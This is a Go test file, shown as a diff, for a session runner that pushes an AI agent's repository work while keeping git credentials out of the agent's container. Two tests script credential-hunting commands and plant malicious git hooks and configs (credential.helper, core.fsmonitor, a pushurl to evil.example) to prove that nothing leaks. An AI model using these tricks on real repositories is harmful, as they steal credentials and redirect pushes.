@@ -1,0 +1,382 @@
+package runner
+
+import (
+	"context"
+	"fmt"
+	"maps"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/yardmaster/yardmaster/api/v1alpha1"
+	sessions "github.com/yardmaster/yardmaster/internal/kinds/agenticsession"
+	"github.com/yardmaster/yardmaster/internal/pod/sessiongit"
+	"github.com/yardmaster/yardmaster/test/gitserver"
+	"github.com/yardmaster/yardmaster/test/poll"
+)
+
+// TestMain lets git start this program to ask for credentials, as session-runner does.
+func TestMain(m *testing.M) {
+	if sessiongit.IsAskpass() {
+		answer, err := sessiongit.Askpass(os.Args[1:], os.Getenv)
+		if err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			os.Exit(1)
+		}
+		fmt.Println(answer)
+		return
+	}
+	os.Exit(m.Run())
+}
+
+const gitPassword = "token-of-the-forge"
+
+// gitSession is a session with a repository, and the container that clones and pushes it.
+type gitSession struct {
+	*testSession
+
+	server      *gitserver.Server
+	credentials string
+	log         *lockedBuffer
+}
+
+// newGitSession starts the container with further arguments.
+func newGitSession(t *testing.T, arguments ...string) *gitSession {
+	t.Helper()
+	server, err := gitserver.New(t.Context(), t.TempDir(), "x-access-token", gitPassword)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(server.Close)
+	t.Setenv("GIT_SSL_CAINFO", server.CAFile)
+	s := &gitSession{testSession: newTestSession(t, "Fix it."), server: server, credentials: t.TempDir(), log: &lockedBuffer{}}
+	writeTestFile(t, filepath.Join(s.credentials, "password"), gitPassword+"\n")
+	s.setInputs(&sessions.RunnerInputs{Repos: []sessions.RunnerRepo{{
+		SessionRepo: v1alpha1.SessionRepo{URL: v1alpha1.GitURL(server.CloneURL()), Branch: "main", AutoPush: true}, Directory: "shop",
+	}}})
+	s.startContainer(append([]string{"--credentials", s.credentials, "--hosts", server.Host}, arguments...)...)
+	return s
+}
+
+// startContainer starts the container that clones and pushes, as in a new Pod.
+func (s *gitSession) startContainer(arguments ...string) {
+	s.t.Helper()
+	directory := s.t.TempDir()
+	s.set(map[string]string{"AGENTIC_GIT": directory})
+	ctx, cancel := context.WithCancel(s.t.Context())
+	ended := make(chan error, 1)
+	environment := maps.Clone(s.environment) // the test changes it
+	getenv := func(name string) string { return environment[name] }
+	go func() {
+		ended <- sessiongit.Run(ctx, append([]string{"--directory", directory}, arguments...), getenv, s.log)
+	}()
+	s.t.Cleanup(func() {
+		cancel()
+		if err := <-ended; err != nil {
+			s.t.Errorf("the container: %v", err)
+		}
+	})
+	for { // until it has read the inputs, which the test may change
+		if _, err := os.Stat(filepath.Join(directory, "git.sock")); err == nil {
+			return
+		}
+		select {
+		case err := <-ended:
+			s.t.Fatalf("the container ended: %v: %s", err, s.log)
+		default:
+		}
+	}
+}
+
+func (s *gitSession) remote(args ...string) string {
+	s.t.Helper()
+	out, err := s.server.Git(s.t.Context(), args...)
+	if err != nil {
+		s.t.Fatalf("git %v: %v: %s", args, err, out)
+	}
+	return out
+}
+
+func (s *gitSession) repositoryResult() v1alpha1.SessionRepositoryResult {
+	s.t.Helper()
+	result := s.result()
+	if len(result.Repositories) != 1 {
+		s.t.Fatalf("result %+v: %s", result, s.out)
+	}
+	return result.Repositories[0]
+}
+
+const edit = `test -f README && echo fixed > bug.txt
+` + finished
+
+func TestWorkIsClonedCommittedPushedAndProposed(t *testing.T) {
+	for _, forge := range []string{sessiongit.GitHub, sessiongit.GitLab} {
+		t.Run(forge, func(t *testing.T) {
+			s := newGitSession(t, "--forge", forge)
+			code, err := s.run("events", edit)
+			if code != exitSuccess || err != nil {
+				t.Fatalf("code %d, error %v: %s", code, err, s.out)
+			}
+			got := s.repositoryResult()
+			if !got.Pushed || got.Branch != "session/demo" || got.Commit != s.remote("rev-parse", "session/demo") || got.Error != "" ||
+				got.PullRequestURL != "https://"+s.server.Host+"/team/shop/pull/1" || got.Name != "shop" {
+				t.Errorf("result %+v: %s", got, s.out)
+			}
+			if got := s.remote("show", "session/demo:bug.txt"); got != "fixed" {
+				t.Errorf("content %q", got)
+			}
+			if got := s.remote("log", "--format=%s by %an", "main..session/demo"); got != "All done. by Agent session demo" {
+				t.Errorf("commits %q", got)
+			}
+			// A second run adds to the branch and finds the open pull request.
+			s.set(map[string]string{"AGENTIC_RUN": "2"})
+			if code, err := s.run("events", "echo more > more.txt\n"+finished); code != exitSuccess || err != nil {
+				t.Fatalf("code %d, error %v: %s", code, err, s.out)
+			}
+			if again := s.repositoryResult(); again.PullRequestURL != got.PullRequestURL || !again.Pushed || s.server.PullRequests() != 1 {
+				t.Errorf("result %+v: %s", again, s.out)
+			}
+		})
+	}
+}
+
+func TestUnchangedRepositoriesAreNotPushed(t *testing.T) {
+	s := newGitSession(t)
+	if code, err := s.run("events", finished); code != exitSuccess || err != nil {
+		t.Fatalf("code %d, error %v: %s", code, err, s.out)
+	}
+	if got := s.repositoryResult(); got.Pushed || got.Error != "" || got.Commit != s.remote("rev-parse", "main") {
+		t.Errorf("result %+v", got)
+	}
+}
+
+func TestTerminatedSessionPushesWhatExists(t *testing.T) {
+	s := newGitSession(t)
+	code, err := s.runUntil("events", `echo half > bug.txt; echo '{"type":"text","text":"ready"}'; sleep 100`, "ready")
+	if code != exitTerminated || err != nil {
+		t.Fatalf("code %d, error %v: %s", code, err, s.out)
+	}
+	if got := s.repositoryResult(); !got.Pushed || s.remote("show", "session/demo:bug.txt") != "half" {
+		t.Errorf("result %+v: %s", got, s.out)
+	}
+}
+
+// The next attempt in another, empty workspace continues with the commits of the first one.
+func TestPushedWorkIsNotLostWithItsWorkspace(t *testing.T) {
+	s := newGitSession(t)
+	if code, _ := s.run("events", edit+"exit 1"); code != exitFailure {
+		t.Fatalf("code %d: %s", code, s.out)
+	}
+	s.set(map[string]string{"AGENTIC_WORKSPACE": t.TempDir(), "AGENTIC_ATTEMPT": "2"})
+	s.startContainer("--credentials", s.credentials, "--hosts", s.server.Host)
+	if code, err := s.run("events", "test -f bug.txt && echo more > more.txt\n"+finished); code != exitSuccess || err != nil {
+		t.Fatalf("code %d, error %v: %s", code, err, s.out)
+	}
+	if got := s.remote("rev-list", "--count", "main..session/demo"); got != "2" {
+		t.Errorf("%s commits: %s", got, s.out)
+	}
+}
+
+func TestCredentialsOfGitAreNowhereInTheAgentsContainer(t *testing.T) {
+	s := newGitSession(t)
+	const look = `env; cat .git/config; git remote -v; cat /proc/*/cmdline /proc/$PPID/environ 2>/dev/null | tr '\0' '\n'; ls -R "$AGENTIC_GIT"`
+	if code, err := s.run("exec", look+"; "+edit); code != exitSuccess || err != nil {
+		t.Fatalf("code %d, error %v: %s", code, err, s.out)
+	}
+	if got := s.repositoryResult(); !got.Pushed {
+		t.Errorf("result %+v", got)
+	}
+	for title, text := range map[string]string{"the output": s.out.String(), "the log of the container": s.log.String(), "the result": fmt.Sprintf("%+v", s.result())} {
+		if strings.Contains(text, gitPassword) {
+			t.Errorf("%s contains the password: %s", title, text)
+		}
+	}
+	for _, directory := range []string{s.environment["AGENTIC_WORKSPACE"], s.environment["AGENTIC_GIT"], s.environment["HOME"]} {
+		if out, err := exec.Command("grep", "-rl", gitPassword, directory).CombinedOutput(); err == nil {
+			t.Errorf("files contain the password: %s", out)
+		}
+	}
+}
+
+// An agent can write anything into its repository, also what makes git run programs and send credentials elsewhere. None of
+// that runs in the container with the credentials.
+func TestHostileRepositoriesDoNotRunProgramsWithTheCredentials(t *testing.T) {
+	s := newGitSession(t)
+	marker := filepath.Join(t.TempDir(), "marker")
+	hostile := fmt.Sprintf(`
+test -z "$%[2]s" # the agent has no credentials
+for hook in pre-push pre-commit post-commit reference-transaction post-checkout; do
+  printf '#!/bin/sh\nif [ -n "$SESSION_GIT_CREDENTIALS" ]; then env > %[1]s; fi\n' > .git/hooks/$hook; chmod +x .git/hooks/$hook
+done
+git config url.https://evil.example/.insteadOf %[3]s/
+git config remote.origin.pushurl https://evil.example/x.git
+git config credential.helper '!env > %[1]s'
+git config core.sshCommand 'env > %[1]s'
+git config core.fsmonitor 'if [ -n "$SESSION_GIT_CREDENTIALS" ]; then env > %[1]s; fi; false'
+`, marker, "SESSION_GIT_CREDENTIALS", s.server.URL)
+	if code, err := s.run("events", hostile+edit); code != exitSuccess || err != nil {
+		t.Fatalf("code %d, error %v: %s", code, err, s.out)
+	}
+	if got := s.repositoryResult(); !got.Pushed || s.remote("show", "session/demo:bug.txt") != "fixed" {
+		t.Errorf("result %+v: %s", got, s.out)
+	}
+	if raw, err := os.ReadFile(marker); err == nil {
+		t.Errorf("a program ran with the credentials: %s", raw)
+	}
+}
+
+func TestOtherHostsGetNoCredentials(t *testing.T) {
+	s := newGitSession(t)
+	s.startContainer("--credentials", s.credentials, "--hosts", "git.example")
+	code, err := s.run("events", edit)
+	if code == exitSuccess || err != nil {
+		t.Fatalf("code %d, error %v", code, err)
+	}
+	if got := s.result().Summary; !strings.Contains(got, "cloning shop") || !strings.Contains(got, "add it to git.hosts") {
+		t.Errorf("summary %q", got)
+	}
+}
+
+func TestOnlyRepositoriesOfTheSessionArePushed(t *testing.T) {
+	s := newGitSession(t)
+	s.setInputs(&sessions.RunnerInputs{Repos: []sessions.RunnerRepo{{
+		SessionRepo: v1alpha1.SessionRepo{URL: v1alpha1.GitURL(s.server.CloneURL()), Branch: "main"}, Directory: "shop",
+	}}})
+	s.startContainer("--credentials", s.credentials, "--hosts", s.server.Host)
+	client := sessiongit.NewClient(s.environment["AGENTIC_GIT"])
+	if _, err := client.Clones(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	for _, directory := range []string{"shop", "other", "../shop"} {
+		if push, err := client.Push(t.Context(), directory, strings.NewReader("bundle")); err == nil {
+			t.Errorf("%s: %+v", directory, push)
+		}
+	}
+	if code, err := s.run("events", edit); code != exitSuccess || err != nil {
+		t.Fatalf("code %d, error %v: %s", code, err, s.out)
+	}
+	if got := s.repositoryResult(); got.Pushed || got.Branch != "main" {
+		t.Errorf("result %+v", got)
+	}
+	if got := s.remote("branch", "--list", "session/*"); got != "" {
+		t.Errorf("branches %q", got)
+	}
+}
+
+func TestMalformedBundlesAreRefused(t *testing.T) {
+	s := newGitSession(t)
+	client := sessiongit.NewClient(s.environment["AGENTIC_GIT"])
+	for _, bundle := range []string{"", "nonsense", "# v2 git bundle\n\n", "# v2 git bundle\n" + strings.Repeat("0", 40) + " HEAD\n\nPACK"} {
+		push, err := client.Push(t.Context(), "shop", strings.NewReader(bundle))
+		if err != nil || push.Error == "" || push.Pushed {
+			t.Errorf("%q: %+v, error %v", bundle, push, err)
+		}
+	}
+}
+
+func TestFailedPushIsReportedAndTheSessionCompletes(t *testing.T) {
+	s := newGitSession(t)
+	if _, err := s.server.Git(t.Context(), "config", "receive.denyCreatePush", "true"); err != nil {
+		t.Fatal(err)
+	}
+	hook := filepath.Join(s.server.Repository(), "hooks", "pre-receive")
+	if err := os.WriteFile(hook, []byte("#!/bin/sh\necho protected >&2; exit 1\n"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	if code, err := s.run("events", edit); code != exitSuccess || err != nil {
+		t.Fatalf("code %d, error %v: %s", code, err, s.out)
+	}
+	if got := s.repositoryResult(); got.Pushed || !strings.Contains(got.Error, "pre-receive hook declined") {
+		t.Errorf("result %+v", got)
+	}
+}
+
+// A push that takes longer than the grace period is one that a server never accepts: its hook waits for the test's end.
+func TestOnlyAfterSIGTERMPushHasAGracePeriod(t *testing.T) {
+	const never = "#!/bin/sh\ntouch %[1]s/started; until test -e %[1]s/ended; do sleep 0.1; done\n"
+	for title, row := range map[string]struct {
+		hook, script string
+		// terminate is the file whose creation makes the runner get SIGTERM; empty for never.
+		terminate string
+		grace     string
+		pushed    bool
+	}{
+		"a normal end":                            {"#!/bin/sh\n", edit, "", "1ns", true},
+		"SIGTERM before the agent's end":          {never, "touch %[1]s/started; echo half > bug.txt; sleep 100", "started", "100ms", false},
+		"SIGTERM while the server accepts a push": {never, edit, "started", "100ms", false},
+	} {
+		t.Run(title, func(t *testing.T) {
+			s := newGitSession(t)
+			directory := t.TempDir()
+			t.Cleanup(func() { writeTestFile(t, filepath.Join(directory, "ended"), "") })
+			hook := filepath.Join(s.server.Repository(), "hooks", "pre-receive")
+			if err := os.WriteFile(hook, []byte(strings.ReplaceAll(row.hook, "%[1]s", directory)), 0o700); err != nil {
+				t.Fatal(err)
+			}
+			ctx, terminate := context.WithCancel(t.Context())
+			defer terminate()
+			if row.terminate != "" {
+				go func() {
+					_ = poll.UntilNil(ctx, func() error { _, err := os.Stat(filepath.Join(directory, row.terminate)); return err })
+					terminate()
+				}()
+			}
+			script := strings.ReplaceAll(row.script, "%[1]s", directory)
+			_, err := Run(ctx, []string{"--profile", "events", "--push-grace-period", row.grace, "--", "sh", "-c", script},
+				func(name string) string { return s.environment[name] }, s.out, s.out)
+			if err != nil {
+				t.Fatalf("error %v: %s", err, s.out)
+			}
+			if got := s.repositoryResult(); got.Pushed != row.pushed || (got.Error == "") != row.pushed {
+				t.Errorf("result %+v: %s", got, s.out)
+			}
+		})
+	}
+}
+
+func TestMissingBranchIsReported(t *testing.T) {
+	s := newGitSession(t)
+	s.setInputs(&sessions.RunnerInputs{Repos: []sessions.RunnerRepo{{
+		SessionRepo: v1alpha1.SessionRepo{URL: v1alpha1.GitURL(s.server.CloneURL()), Branch: "release"}, Directory: "shop",
+	}}})
+	s.startContainer("--credentials", s.credentials, "--hosts", s.server.Host)
+	if code, _ := s.run("events", edit); code == exitSuccess {
+		t.Fatal("the session is successful")
+	}
+	if got := s.result().Summary; !strings.Contains(got, "the repository has no branch release") {
+		t.Errorf("summary %q", got)
+	}
+}
+
+// A bundle of new commits is based on the commits that were cloned, so a shallow clone is enough to push.
+func TestOnlyAsManyCommitsAsTheDepthAreClonedAndWorkIsPushed(t *testing.T) {
+	s := newGitSession(t)
+	seed := filepath.Join(filepath.Dir(filepath.Dir(s.server.Repository())), "seed")
+	for range 3 {
+		for _, args := range [][]string{
+			{"-c", "user.name=a", "-c", "user.email=a@b.example", "commit", "--quiet", "--allow-empty", "--message=Next"},
+			{"push", "--quiet", s.server.Repository(), "main"},
+		} {
+			if out, err := exec.CommandContext(t.Context(), "git", append([]string{"-C", seed}, args...)...).CombinedOutput(); err != nil {
+				t.Fatalf("%v: %s", err, out)
+			}
+		}
+	}
+	s.setInputs(&sessions.RunnerInputs{Repos: []sessions.RunnerRepo{{
+		SessionRepo: v1alpha1.SessionRepo{URL: v1alpha1.GitURL(s.server.CloneURL()), Branch: "main", AutoPush: true, Depth: new(int32(2))}, Directory: "shop",
+	}}})
+	s.startContainer("--credentials", s.credentials, "--hosts", s.server.Host)
+	count := filepath.Join(t.TempDir(), "count")
+	code, err := s.run("events", "git rev-list --count HEAD > "+count+"\n"+edit)
+	if code != exitSuccess || err != nil {
+		t.Fatalf("code %d, error %v: %s", code, err, s.out)
+	}
+	if raw, err := os.ReadFile(count); err != nil || strings.TrimSpace(string(raw)) != "2" {
+		t.Errorf("%q commits, error %v", raw, err)
+	}
+	if got := s.repositoryResult(); !got.Pushed || s.remote("rev-list", "--count", "main..session/demo") != "1" {
+		t.Errorf("result %+v: %s", got, s.out)
+	}
+}
